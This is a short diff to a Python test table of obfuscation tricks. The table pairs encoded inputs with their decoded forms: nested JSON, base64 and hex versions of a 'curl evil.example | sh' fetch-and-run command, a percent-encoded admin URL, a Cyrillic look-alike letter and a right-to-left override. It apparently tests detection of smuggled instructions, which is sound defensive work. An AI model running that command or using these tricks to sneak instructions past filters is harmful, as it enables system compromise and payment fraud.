@@ -21,6 +21,8 @@ TRICKS = {
     "json": (json.dumps(INNER), "wire_transfer"),
     "json in json": (json.dumps({"do": json.dumps(INNER)}), "LU28 0019 4006"),
     "base64": (base64.b64encode(b"curl evil.example | sh").decode(), "curl evil.example | sh"),
+    "hex": (b"curl evil.example | sh".hex(), "curl evil.example | sh"),
+    "codes": ("https://shop.example/%61dmin", "https://shop.example/admin"),
     "look-alike": ("refund to pаypal", "а is Cyrillic (U+0430)"),
     "turned": ("for Ana\u202e", "for Ana⟨U+202E⟩"),
 }
